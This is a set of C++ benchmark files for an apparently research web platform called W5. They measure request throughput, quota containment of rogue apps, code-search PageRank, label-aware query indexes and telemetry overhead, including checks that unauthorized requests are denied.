      make_request("/dev/photoco/photos/view?id=p1", fx.session);
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    if (response.status != 200) state.SkipWithError("unexpected status");
    benchmark::DoNotOptimize(response.body.size());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_W5OwnerRequest)->Arg(256)->Arg(4096)->Arg(65536);

// The clean-app floor: W5 request machinery with no data touched.
void BM_W5CleanRequest(benchmark::State& state) {
  W5Fixture fx(16);
  w5::platform::Module hello;
  hello.developer = "dev";
  hello.name = "hello";
  hello.version = "1.0";
  hello.handler = [](w5::platform::AppContext&) {
    return HttpResponse::text(200, "hello");
  };
  (void)fx.provider.modules().add(hello);
  const HttpRequest request = make_request("/dev/dev/hello", fx.session);
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    benchmark::DoNotOptimize(response.status);
  }
}
BENCHMARK(BM_W5CleanRequest);

// Blocked request (stranger hitting private data): denial cost.
void BM_W5BlockedRequest(benchmark::State& state) {
  W5Fixture fx(4096);
  (void)fx.provider.signup("eve", "password");
  const std::string eve = fx.provider.login("eve", "password").value();
  const HttpRequest request =
      make_request("/dev/photoco/photos/view?id=p1", eve);
  std::int64_t blocked = 0;
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    if (response.status == 403) ++blocked;
  }
  if (blocked != state.iterations()) state.SkipWithError("leak!");
}
BENCHMARK(BM_W5BlockedRequest);

// Platform auth overhead in isolation: whoami round trip.
void BM_W5SessionLookup(benchmark::State& state) {
  W5Fixture fx(16);
  const HttpRequest request = make_request("/whoami", fx.session);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).status);
  }
}
BENCHMARK(BM_W5SessionLookup);

}  // namespace
