// E10 — resource containers (§3.5): accounting overhead and rogue-app
// containment (the victim keeps its throughput while the hog dies).
#include <benchmark/benchmark.h>

#include "os/scheduler.h"

namespace {

using w5::difc::LabelState;
using w5::os::Kernel;
using w5::os::Resource;
using w5::os::ResourceContainer;
using w5::os::ResourceVector;
using w5::os::Scheduler;
using w5::os::TaskState;

// Pure accounting cost: charge through a chain of containers.
void BM_ChargeFlat(benchmark::State& state) {
  ResourceContainer container("app", {.cpu_ticks = w5::os::kUnlimited,
                                      .memory_bytes = w5::os::kUnlimited,
                                      .disk_bytes = w5::os::kUnlimited,
                                      .network_bytes = w5::os::kUnlimited});
  for (auto _ : state) {
    benchmark::DoNotOptimize(container.charge(Resource::kCpu, 1).ok());
  }
}
BENCHMARK(BM_ChargeFlat);

void BM_ChargeHierarchical(benchmark::State& state) {
  const auto depth = static_cast<std::size_t>(state.range(0));
  std::vector<std::unique_ptr<ResourceContainer>> chain;
  const ResourceVector unlimited{w5::os::kUnlimited, w5::os::kUnlimited,
                                 w5::os::kUnlimited, w5::os::kUnlimited};
  chain.push_back(std::make_unique<ResourceContainer>("root", unlimited));
  for (std::size_t i = 1; i < depth; ++i) {
    chain.push_back(std::make_unique<ResourceContainer>(
        "c" + std::to_string(i), unlimited, chain.back().get()));
  }
  for (auto _ : state) {
    benchmark::DoNotOptimize(chain.back()->charge(Resource::kCpu, 1).ok());
  }
  state.SetLabel("depth=" + std::to_string(depth));
}
BENCHMARK(BM_ChargeHierarchical)->Arg(1)->Arg(2)->Arg(4)->Arg(8);

// Denied charge (the quota boundary): refusal cost.
void BM_ChargeDenied(benchmark::State& state) {
  ResourceContainer container("app", {.cpu_ticks = 0});
  for (auto _ : state) {
    benchmark::DoNotOptimize(container.charge(Resource::kCpu, 1).ok());
  }
}
BENCHMARK(BM_ChargeDenied);

// Kernel-mediated charge (process lookup + container chain).
void BM_KernelCharge(benchmark::State& state) {
  Kernel kernel;
  ResourceContainer container("app", {.cpu_ticks = w5::os::kUnlimited,
                                      .memory_bytes = w5::os::kUnlimited,
                                      .disk_bytes = w5::os::kUnlimited,
                                      .network_bytes = w5::os::kUnlimited});
  const auto pid =
      kernel.spawn_trusted("app", LabelState({}, {}, {}), &container);
  for (auto _ : state) {
    benchmark::DoNotOptimize(kernel.charge(pid, Resource::kCpu, 1).ok());
  }
}
BENCHMARK(BM_KernelCharge);

// Containment: one hog with a small budget + N victims; run the round-
// robin scheduler and report victim completion vs hog containment.
void BM_HogContainment(benchmark::State& state) {
  const auto n_victims = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    Kernel kernel;
    Scheduler scheduler(kernel);
    ResourceContainer hog_box("hog", {.cpu_ticks = 100});
    const auto hog_pid =
        kernel.spawn_trusted("hog", LabelState({}, {}, {}), &hog_box);
    int hog_steps = 0;
    const auto hog_task = scheduler.submit("hog", hog_pid, [&] {
      ++hog_steps;
      return false;  // never finishes voluntarily
    });
    std::vector<int> victim_steps(n_victims, 0);
    std::vector<std::uint64_t> victim_tasks;
    for (std::size_t v = 0; v < n_victims; ++v) {
      victim_tasks.push_back(scheduler.submit(
          "victim" + std::to_string(v), w5::os::kKernelPid,
          [&victim_steps, v] { return ++victim_steps[v] == 200; }));
    }
    scheduler.run(1000000);
    // Invariants: hog killed at its budget; every victim finished.
    if (hog_steps != 100) state.SkipWithError("hog not contained");
    for (std::size_t v = 0; v < n_victims; ++v) {
      if (victim_steps[v] != 200) state.SkipWithError("victim starved");
    }
    benchmark::DoNotOptimize(scheduler.info(hog_task));
    benchmark::DoNotOptimize(victim_tasks.size());
  }
  state.SetLabel("victims=" + std::to_string(n_victims));
}
BENCHMARK(BM_HogContainment)->Arg(1)->Arg(8)->Arg(64)
    ->Unit(benchmark::kMicrosecond);

// Scheduler throughput without quotas (the floor).
void BM_SchedulerThroughput(benchmark::State& state) {
  Kernel kernel;
  Scheduler scheduler(kernel);
  int steps = 0;
  scheduler.submit("spin", w5::os::kKernelPid, [&] {
    ++steps;
    return false;
  });
  for (auto _ : state) {
    benchmark::DoNotOptimize(scheduler.round());
  }
}
BENCHMARK(BM_SchedulerThroughput);

}  // namespace
