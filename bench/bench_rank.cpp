// E8 — code-search PageRank (§3.2): convergence cost vs module-graph
// size, plus a ranking-quality check with planted reputable developers.
#include <benchmark/benchmark.h>

#include "rank/search.h"
#include "util/rng.h"

namespace {

using w5::rank::DependencyGraph;
using w5::rank::DependencyKind;
using w5::rank::PageRankOptions;

// Synthetic module ecosystem: `n` modules, preferential attachment (new
// modules import popular ones), plus a few "core libraries" everyone
// imports — the planted ground truth.
DependencyGraph make_ecosystem(std::size_t n, std::uint64_t seed) {
  DependencyGraph graph;
  w5::util::Rng rng(seed);
  const std::size_t n_core = std::max<std::size_t>(1, n / 100);
  for (std::size_t i = 0; i < n; ++i) {
    const std::string id = "m" + std::to_string(i);
    graph.add_node(id);
    if (i == 0) continue;
    // Every module imports 1-4 others, biased toward low indices
    // (preferential attachment via Zipf).
    const std::size_t imports = 1 + rng.next_below(4);
    for (std::size_t k = 0; k < imports; ++k) {
      const std::size_t target =
          rng.next_bool(0.3) ? rng.next_below(n_core)  // core library
                             : rng.next_below(i);
      graph.add_edge(id, "m" + std::to_string(target),
                     rng.next_bool(0.8) ? DependencyKind::kImport
                                        : DependencyKind::kHtmlEmbed);
    }
  }
  return graph;
}

void BM_PageRankConvergence(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const DependencyGraph graph = make_ecosystem(n, 42);
  std::size_t iterations = 0;
  for (auto _ : state) {
    auto result = w5::rank::pagerank(graph);
    iterations = result.iterations;
    benchmark::DoNotOptimize(result.scores.data());
  }
  state.counters["iterations"] = static_cast<double>(iterations);
  state.counters["edges"] = static_cast<double>(graph.edge_count());
  state.SetLabel("modules=" + std::to_string(n));
}
BENCHMARK(BM_PageRankConvergence)
    ->Arg(100)
    ->Arg(1000)
    ->Arg(10000)
    ->Unit(benchmark::kMillisecond);

// Quality: do the planted core libraries land in the top ranks?
void BM_PageRankQuality(benchmark::State& state) {
  const std::size_t n = 2000;
  const DependencyGraph graph = make_ecosystem(n, 7);
  double hits = 0;
  for (auto _ : state) {
    const auto ranked = w5::rank::pagerank(graph).ranked(graph);
    // Planted core libraries are m0..m19 (n/100).
    hits = 0;
    for (std::size_t i = 0; i < 20; ++i) {
      const auto& id = ranked[i].first;
      const auto idx = std::stoul(id.substr(1));
      if (idx < n / 100) ++hits;
    }
    benchmark::DoNotOptimize(ranked.size());
  }
  state.counters["core_libs_in_top20"] = hits;
}
BENCHMARK(BM_PageRankQuality)->Unit(benchmark::kMillisecond);

void BM_CodeSearchQuery(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const DependencyGraph graph = make_ecosystem(n, 11);
  w5::rank::EditorBoard editors;
  w5::rank::PopularityTracker popularity;
  w5::util::Rng rng(3);
  for (std::size_t i = 0; i < n / 10; ++i) {
    popularity.record_use("m" + std::to_string(rng.next_below(n)),
                          1 + rng.next_below(100));
  }
  w5::rank::CodeSearch search(graph, editors, popularity);
  for (std::size_t i = 0; i < n; ++i) {
    search.add_entry({"m" + std::to_string(i),
                      i % 7 == 0 ? "photo tool" : "misc module"});
  }
  search.refresh();
  for (auto _ : state) {
    benchmark::DoNotOptimize(search.search("photo", 10).size());
  }
  state.SetLabel("modules=" + std::to_string(n));
}
BENCHMARK(BM_CodeSearchQuery)->Arg(1000)->Arg(10000);

}  // namespace
