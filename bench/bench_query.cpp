// E18 — label-aware secondary indexes vs predicate scans at scale
// (DESIGN.md §17, EXPERIMENTS.md E18).
//
//   BM_PointQueryIndexed   — eq_field lookup served by the (profiles,
//       city) field index over 2^20 records; p99_us counter.
//   BM_PointQueryScan      — the same query with the planner forced to
//       kScanOnly: a full label-group scan with the eq filter applied
//       per record. The E18 gate requires indexed p99 to beat this by
//       at least W5_QUERY_INDEX_FACTOR (default 10x).
//   BM_OwnerQueryIndexed / BM_OwnerQueryScan — the owner posting-list
//       path against the same forced scan.
//   BM_DeepPageCursor / BM_DeepPageOffset — page 50 rows from half a
//       million records deep: cursor resume vs offset re-scan.
//   BM_QuantizedCountChannel — the §3.5 count channel: with quantum q,
//       counts for populations n and n+1 must be identical
//       (quantized_delta counter == 0 while raw_delta == 1).
//
// The fixture is built once and shared (1M labeled puts take seconds);
// benchmarks only read it, except the count channel which restores the
// store before returning.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "store/labeled_store.h"
#include "store/query.h"

namespace {

using w5::difc::Label;
using w5::difc::ObjectLabels;
using w5::difc::plus;
using w5::difc::Tag;
using w5::os::kKernelPid;
using w5::store::LabeledStore;
using w5::store::PlannerMode;
using w5::store::QueryGovernorConfig;
using w5::store::QueryOptions;
using w5::store::Record;

constexpr std::size_t kRecords = std::size_t{1} << 20;  // 2^20 = 1,048,576
constexpr std::size_t kOwners = 4096;                   // ~256 records each
constexpr std::size_t kCities = 1024;                   // ~1024 records each
constexpr std::size_t kLabels = 64;                     // label-group count

std::string padded_id(std::size_t i) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "r%07zu", i);
  return buf;
}

struct QueryFixture {
  w5::os::Kernel kernel;
  w5::util::SimClock clock;
  LabeledStore store{kernel, clock};

  QueryFixture() {
    std::vector<Tag> tags;
    for (std::size_t t = 0; t < kLabels; ++t) {
      tags.push_back(kernel
                         .create_tag(kKernelPid, "sec(g" + std::to_string(t) +
                                                     ")",
                                     w5::difc::TagPurpose::kSecrecy)
                         .value());
      kernel.add_global_capability(plus(tags.back()));
    }
    // Register before loading so every put maintains the index inline —
    // the production shape (ProviderConfig::store_indexes).
    (void)store.create_index("profiles", "city");
    for (std::size_t i = 0; i < kRecords; ++i) {
      Record record;
      record.collection = "profiles";
      record.id = padded_id(i);
      record.owner = "u" + std::to_string(i % kOwners);
      record.labels = ObjectLabels{Label{tags[i % kLabels]}, {}};
      record.data["city"] = "city" + std::to_string(i % kCities);
      record.data["rating"] = static_cast<int>(i % 6);
      (void)store.put(kKernelPid, std::move(record));
    }
  }

  static QueryFixture& shared() {
    static QueryFixture* fx = new QueryFixture();  // built once, leaked
    return *fx;
  }
};

// Times each query and reports tail latency alongside the mean the
// framework already computes. One sample per iteration.
void run_timed(benchmark::State& state, const QueryOptions& options) {
  QueryFixture& fx = QueryFixture::shared();
  std::vector<double> micros;
  for (auto _ : state) {
    const auto start = std::chrono::steady_clock::now();
    auto result = fx.store.query(kKernelPid, "profiles", options);
    const auto stop = std::chrono::steady_clock::now();
    benchmark::DoNotOptimize(result.value().size());
    micros.push_back(
        std::chrono::duration<double, std::micro>(stop - start).count());
  }
  std::sort(micros.begin(), micros.end());
  state.counters["p99_us"] =
      micros.empty() ? 0.0 : micros[micros.size() * 99 / 100];
  state.counters["rows"] = micros.empty()
                               ? 0.0
                               : static_cast<double>(
                                     fx.store.query(kKernelPid, "profiles",
                                                    options)
                                         .value()
                                         .size());
}

void BM_PointQueryIndexed(benchmark::State& state) {
  QueryOptions options;
  options.eq_field = "city";
  options.eq_value = "city777";
  run_timed(state, options);
}
BENCHMARK(BM_PointQueryIndexed)->Unit(benchmark::kMicrosecond);

void BM_PointQueryScan(benchmark::State& state) {
  QueryOptions options;
  options.eq_field = "city";
  options.eq_value = "city777";
  options.planner = PlannerMode::kScanOnly;
  run_timed(state, options);
}
BENCHMARK(BM_PointQueryScan)->Unit(benchmark::kMicrosecond);

void BM_OwnerQueryIndexed(benchmark::State& state) {
  QueryOptions options;
  options.owner = "u77";
  run_timed(state, options);
}
BENCHMARK(BM_OwnerQueryIndexed)->Unit(benchmark::kMicrosecond);

void BM_OwnerQueryScan(benchmark::State& state) {
  QueryOptions options;
  options.owner = "u77";
  options.planner = PlannerMode::kScanOnly;
  run_timed(state, options);
}
BENCHMARK(BM_OwnerQueryScan)->Unit(benchmark::kMicrosecond);

// Deep pagination: fetch the 50-row page that starts 500k records in.
// The offset path must materialize offset+limit rows per shard before
// slicing; the cursor path seeks straight to the resume key.
void BM_DeepPageOffset(benchmark::State& state) {
  QueryOptions options;
  options.offset = 500'000;
  options.limit = 50;
  run_timed(state, options);
}
BENCHMARK(BM_DeepPageOffset)->Unit(benchmark::kMicrosecond);

void BM_DeepPageCursor(benchmark::State& state) {
  QueryFixture& fx = QueryFixture::shared();
  QueryOptions options;
  options.limit = 50;
  options.cursor = "profiles/" + padded_id(499'999);
  std::vector<double> micros;
  for (auto _ : state) {
    const auto start = std::chrono::steady_clock::now();
    auto page = fx.store.query_page(kKernelPid, "profiles", options);
    const auto stop = std::chrono::steady_clock::now();
    benchmark::DoNotOptimize(page.value().records.size());
    micros.push_back(
        std::chrono::duration<double, std::micro>(stop - start).count());
  }
  std::sort(micros.begin(), micros.end());
  state.counters["p99_us"] =
      micros.empty() ? 0.0 : micros[micros.size() * 99 / 100];
}
BENCHMARK(BM_DeepPageCursor)->Unit(benchmark::kMicrosecond);

// §3.5 count channel: with quantum q an observer probing count() before
// and after a single insert learns nothing — both probes answer the
// same multiple of q. raw_delta replays the probe with quantization off
// to show the channel the quantum closes.
void BM_QuantizedCountChannel(benchmark::State& state) {
  QueryFixture& fx = QueryFixture::shared();
  const std::size_t quantum = static_cast<std::size_t>(state.range(0));
  Record probe;
  probe.collection = "profiles";
  probe.id = "zz-probe";
  probe.owner = "u0";
  probe.data["city"] = "city0";

  double quantized_delta = 0.0;
  double raw_delta = 0.0;
  for (auto _ : state) {
    fx.store.set_governor_config(QueryGovernorConfig{
        .count_quantum = quantum});
    const auto before = fx.store.count(kKernelPid, "profiles").value();
    (void)fx.store.put(kKernelPid, probe);
    const auto after = fx.store.count(kKernelPid, "profiles").value();
    quantized_delta = static_cast<double>(after - before);
    fx.store.set_governor_config(QueryGovernorConfig{.count_quantum = 1});
    const auto raw_after = fx.store.count(kKernelPid, "profiles").value();
    (void)fx.store.remove(kKernelPid, "profiles", "zz-probe");
    const auto raw_before = fx.store.count(kKernelPid, "profiles").value();
    raw_delta = static_cast<double>(raw_after - raw_before);
  }
  fx.store.set_governor_config(QueryGovernorConfig{});
  state.counters["quantized_delta"] = quantized_delta;
  state.counters["raw_delta"] = raw_delta;
  state.counters["quantum"] = static_cast<double>(quantum);
}
BENCHMARK(BM_QuantizedCountChannel)->Arg(100)->Unit(benchmark::kMillisecond);

}  // namespace
