// E13 — what does the telemetry plane cost?
//
// The same gateway pipeline as E12, measured twice: this binary built
// normally (metrics + tracing on) and built with -DW5_NO_TELEMETRY=ON
// (every update compiled out). scripts/bench_json.sh observability runs
// both trees and asserts the overhead on every BM_ObservedPipeline*
// bench — the in-process gateway pipeline and the event-loop TCP path
// with stage spans + exemplars — stays under the budget (default <5%).
//
//   ./build/bench/bench_observability --benchmark_min_time=1x
//   scripts/bench_json.sh observability   # two-build overhead comparison
#include <benchmark/benchmark.h>

#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "core/gateway.h"
#include "core/provider.h"
#include "core/trace.h"
#include "difc/label_table.h"
#include "net/http_client.h"
#include "net/tcp.h"
#include "util/metrics.h"

namespace {

using w5::net::HttpResponse;
using w5::net::Method;
using w5::platform::AppContext;
using w5::platform::Module;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

constexpr int kUsers = 8;

// Records carry a representative payload: real W5 records (posts,
// profile fragments, photo metadata) run KiB-scale, not tens of bytes,
// and the telemetry budget is judged against that workload.
constexpr std::size_t kPayloadBytes = 1024;

const std::string& payload_field() {
  static const std::string payload(kPayloadBytes, 'x');
  return payload;
}

// Leaky magic static, same idiom as bench_concurrency: benchmark
// processes exit without teardown, and construction must not be timed.
struct SharedFixture {
  w5::util::WallClock clock;
  Provider provider{ProviderConfig{}, clock};
  std::vector<std::string> sessions;

  SharedFixture() {
    for (int u = 0; u < kUsers; ++u) {
      const std::string user = "user" + std::to_string(u);
      (void)provider.signup(user, "password");
      sessions.push_back(provider.login(user, "password").value());
      (void)provider.http(Method::kPost, "/data/notes/seed" + std::to_string(u),
                          "{\"v\":0,\"payload\":\"" + payload_field() + "\"}",
                          sessions.back());
    }
    Module viewer;
    viewer.developer = "devco";
    viewer.name = "viewer";
    viewer.version = "1.0";
    viewer.handler = [](AppContext& ctx) {
      auto record = ctx.get_record("notes", ctx.viewer().empty()
                                                ? "seed0"
                                                : "seed" + ctx.viewer().substr(4));
      if (!record.ok()) return HttpResponse::text(404, "none");
      return HttpResponse::text(200, record.value().data.dump());
    };
    (void)provider.modules().add(viewer);
  }
};

SharedFixture& fixture() {
  static SharedFixture* fx = new SharedFixture();  // leaky by design
  return *fx;
}

// The workload whose two-build delta IS the telemetry overhead number:
// per iteration one write, one traced app read across the perimeter, one
// direct read. Every request mints a trace, stamps the header, records
// spans, and bumps half a dozen counters — or, under W5_NO_TELEMETRY,
// does none of that.
void BM_ObservedPipeline(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];
  const std::string record =
      "/data/notes/obs-t" + std::to_string(state.thread_index());
  const std::string app = "/dev/devco/viewer";

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    const std::string body = "{\"v\":" + std::to_string(i) +
                             ",\"payload\":\"" + payload_field() + "\"}";
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kPost, record, body, session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, app, "", session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, record, "", session).status);
    requests += 3;
  }
  state.SetItemsProcessed(requests);
  state.counters["req_per_s"] = benchmark::Counter(
      static_cast<double>(requests), benchmark::Counter::kIsRate);
  state.counters["telemetry_enabled"] =
      w5::util::kTelemetryEnabled ? 1 : 0;
}
BENCHMARK(BM_ObservedPipeline)->Threads(1)->Threads(4)->Threads(8)
    ->UseRealTime();

// The same overhead question asked of the reactor serving path (§16):
// requests over real loopback TCP through Provider::serve() in
// kEventLoop mode, where telemetry additionally means stage spans
// (parse/dispatch/handler/write), the event-loop lag / epoll batch /
// timer drift histograms with exemplars, and the per-loop counters.
// Named BM_ObservedPipeline* so the two-build gate in
// scripts/bench_json.sh covers the event-loop path too.
struct ReactorFixture {
  w5::util::WallClock clock;
  std::unique_ptr<Provider> provider;
  w5::net::TcpListener listener;
  std::thread serve_thread;  // leaky: runs until process exit
  std::vector<std::string> cookies;

  ReactorFixture() {
    ProviderConfig config;
    config.serve_mode = w5::platform::ServeMode::kEventLoop;
    provider = std::make_unique<Provider>(std::move(config), clock);
    for (int u = 0; u < kUsers; ++u) {
      const std::string user = "rx" + std::to_string(u);
      (void)provider->signup(user, "password");
      cookies.push_back("w5session=" +
                        provider->login(user, "password").value());
    }
    if (!listener.listen(0, 1024).ok()) std::abort();
    serve_thread = std::thread([this] { provider->serve(listener); });
  }
};

ReactorFixture& reactor_fixture() {
  static ReactorFixture* fx = new ReactorFixture();  // leaky by design
  return *fx;
}

void BM_ObservedPipelineEventLoop(benchmark::State& state) {
  ReactorFixture& fx = reactor_fixture();
  const std::string& cookie =
      fx.cookies[static_cast<std::size_t>(state.thread_index()) % kUsers];
  const std::string record =
      "/data/notes/rx-t" + std::to_string(state.thread_index());

  auto dial = w5::net::tcp_connect(fx.listener.port());
  if (!dial.ok()) std::abort();
  std::unique_ptr<w5::net::Connection> conn = std::move(dial.value());
  w5::net::HttpClient client;

  auto roundtrip = [&](Method method, const std::string& target,
                       std::string body) {
    w5::net::HttpRequest request;
    request.method = method;
    request.target = target;
    request.body = std::move(body);
    request.headers.set("Cookie", cookie);
    auto response = client.roundtrip(*conn, request);
    if (!response.ok()) {  // reaped mid-run: re-dial and carry on
      conn = std::move(w5::net::tcp_connect(fx.listener.port()).value());
      response = client.roundtrip(*conn, request);
    }
    benchmark::DoNotOptimize(response.ok() ? response.value().status : 0);
  };

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    const std::string body = "{\"v\":" + std::to_string(i) +
                             ",\"payload\":\"" + payload_field() + "\"}";
    roundtrip(Method::kPost, record, body);
    roundtrip(Method::kGet, record, "");
    requests += 2;
  }
  state.SetItemsProcessed(requests);
  state.counters["req_per_s"] = benchmark::Counter(
      static_cast<double>(requests), benchmark::Counter::kIsRate);
  state.counters["telemetry_enabled"] =
      w5::util::kTelemetryEnabled ? 1 : 0;
}
BENCHMARK(BM_ObservedPipelineEventLoop)->Threads(1)->Threads(4)
    ->UseRealTime();

// A /metrics scrape under load: how much does reading the plane cost
// (registry walk + gauge refresh across 16 shards, pool, flow cache)?
void BM_MetricsScrape(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const std::string& session = fx.sessions[0];
  std::int64_t bytes = 0;
  for (auto _ : state) {
    const auto response =
        fx.provider.http(Method::kGet, "/metrics", "", session);
    benchmark::DoNotOptimize(response.status);
    bytes += static_cast<std::int64_t>(response.body.size());
  }
  state.SetBytesProcessed(bytes);
  // Export the provider's own counters next to the timing numbers
  // (scripts/bench_json.sh lifts snap_* into "metrics_snapshot"), so a
  // perf regression in BENCH_observability.json comes with the request
  // mix and cache behavior that produced it.
  w5::util::MetricsRegistry& metrics = fx.provider.metrics();
  const auto snap = [&state](const char* key, double v) {
    state.counters[key] = benchmark::Counter(v);
  };
  snap("snap_requests_total",
       static_cast<double>(metrics.counter("w5_requests_total").value()));
  snap("snap_traces_recorded",
       static_cast<double>(fx.provider.traces().recorded()));
  const auto ops = fx.provider.store().op_counts();
  snap("snap_store_gets", static_cast<double>(ops.gets));
  snap("snap_store_puts", static_cast<double>(ops.puts));
  const auto& cache = w5::difc::FlowCache::instance();
  snap("snap_flow_cache_hits", static_cast<double>(cache.hits()));
  snap("snap_flow_cache_misses", static_cast<double>(cache.misses()));
}
BENCHMARK(BM_MetricsScrape);

// Raw primitive costs, for the DESIGN.md table: one counter bump and one
// histogram observe (the per-request fixed cost is a handful of these).
void BM_MetricsSnapshot_CounterInc(benchmark::State& state) {
  static w5::util::MetricsRegistry registry;
  w5::util::Counter& counter = registry.counter("bench_counter");
  for (auto _ : state) counter.inc();
  state.counters["final"] = static_cast<double>(counter.value());
}
BENCHMARK(BM_MetricsSnapshot_CounterInc)->Threads(1)->Threads(8);

void BM_MetricsSnapshot_HistogramObserve(benchmark::State& state) {
  static w5::util::MetricsRegistry registry;
  w5::util::Histogram& histogram = registry.histogram("bench_latency");
  std::int64_t v = 0;
  for (auto _ : state) histogram.observe(++v % 1'000'000);
  state.counters["final"] = static_cast<double>(histogram.count());
}
BENCHMARK(BM_MetricsSnapshot_HistogramObserve)->Threads(1)->Threads(8);

// Trace-span cost in isolation: install a context, record spans into it.
void BM_TraceSpan(benchmark::State& state) {
  for (auto _ : state) {
    w5::platform::RequestContext context;
    {
      w5::platform::ScopedSpan span("bench.op");
    }
    benchmark::DoNotOptimize(context.finish());
  }
}
BENCHMARK(BM_TraceSpan);

}  // namespace
