// E12 — concurrent request throughput (the tentpole measurement).
//
// One shared provider, google-benchmark's --threads fan-out: every bench
// thread plays a distinct user pushing the full gateway pipeline
// (session lookup → per-request process spawn → sharded store → export
// check). ops/s at 8 threads vs 1 is the scalability headline; the
// single-thread runs double as the lock-overhead regression guard
// against the pre-concurrency seed.
//
//   ./build/bench/bench_concurrency --benchmark_min_time=1x
//   scripts/bench_json.sh            # JSON for BENCH_concurrency.json
#include <benchmark/benchmark.h>

#include <string>
#include <vector>

#include "core/gateway.h"
#include "core/provider.h"

namespace {

using w5::net::HttpResponse;
using w5::net::Method;
using w5::platform::AppContext;
using w5::platform::Module;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

constexpr int kUsers = 8;

// One provider shared by every thread of every run (leaky magic static:
// benchmark processes exit without teardown, and a fresh provider per
// run would measure construction, not serving).
struct SharedFixture {
  w5::util::WallClock clock;
  Provider provider{ProviderConfig{}, clock};
  std::vector<std::string> sessions;

  SharedFixture() {
    for (int u = 0; u < kUsers; ++u) {
      const std::string user = "user" + std::to_string(u);
      (void)provider.signup(user, "password");
      sessions.push_back(provider.login(user, "password").value());
      (void)provider.http(Method::kPost, "/data/notes/seed" + std::to_string(u),
                          R"({"v":0})", sessions.back());
    }
    Module viewer;
    viewer.developer = "devco";
    viewer.name = "viewer";
    viewer.version = "1.0";
    viewer.handler = [](AppContext& ctx) {
      auto record = ctx.get_record("notes", ctx.viewer().empty()
                                                ? "seed0"
                                                : "seed" + ctx.viewer().substr(4));
      if (!record.ok()) return HttpResponse::text(404, "none");
      return HttpResponse::text(200, record.value().data.dump());
    };
    (void)provider.modules().add(viewer);
  }
};

SharedFixture& fixture() {
  static SharedFixture* fx = new SharedFixture();  // leaky by design
  return *fx;
}

// The mixed workload: per iteration one store write, one app read that
// crosses the export perimeter, one direct data read, one /stats probe.
// Each thread acts as its own user, so writes land on distinct shard
// keys (the common case) while registries, sessions, kernel, and audit
// stay fully shared and contended.
void BM_MixedRequestPipeline(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];
  const std::string record =
      "/data/notes/bench-t" + std::to_string(state.thread_index());
  const std::string app = "/dev/devco/viewer";

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    const std::string body = "{\"v\":" + std::to_string(i) + "}";
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kPost, record, body, session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, app, "", session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, record, "", session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, "/stats", "", session).status);
    requests += 4;
  }
  state.SetItemsProcessed(requests);
  state.counters["req_per_s"] = benchmark::Counter(
      static_cast<double>(requests), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_MixedRequestPipeline)
    ->Threads(1)
    ->Threads(4)
    ->Threads(8)
    ->UseRealTime();

// Store-only fan-out: pure sharded put/get, the path the lock striping
// targets most directly.
void BM_StorePointOps(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];
  const std::string record =
      "/data/points/t" + std::to_string(state.thread_index());

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    const std::string body = "{\"v\":" + std::to_string(i) + "}";
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kPost, record, body, session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, record, "", session).status);
    requests += 2;
  }
  state.SetItemsProcessed(requests);
}
BENCHMARK(BM_StorePointOps)->Threads(1)->Threads(4)->Threads(8)->UseRealTime();

// Export fast path in isolation: the same viewer-app request over and
// over — after the first iteration every flow check is a memo hit.
void BM_ExportFastPath(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];

  std::int64_t requests = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, "/dev/devco/viewer", "", session)
            .status);
    ++requests;
  }
  state.SetItemsProcessed(requests);
}
BENCHMARK(BM_ExportFastPath)->Threads(1)->Threads(4)->Threads(8)->UseRealTime();

}  // namespace
