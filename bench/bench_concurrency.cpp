// E12 — concurrent request throughput (the tentpole measurement).
//
// One shared provider, google-benchmark's --threads fan-out: every bench
// thread plays a distinct user pushing the full gateway pipeline
// (session lookup → per-request process spawn → sharded store → export
// check). ops/s at 8 threads vs 1 is the scalability headline; the
// single-thread runs double as the lock-overhead regression guard
// against the pre-concurrency seed.
//
//   ./build/bench/bench_concurrency --benchmark_min_time=1x
//   scripts/bench_json.sh            # JSON for BENCH_concurrency.json
#include <benchmark/benchmark.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/resource.h>
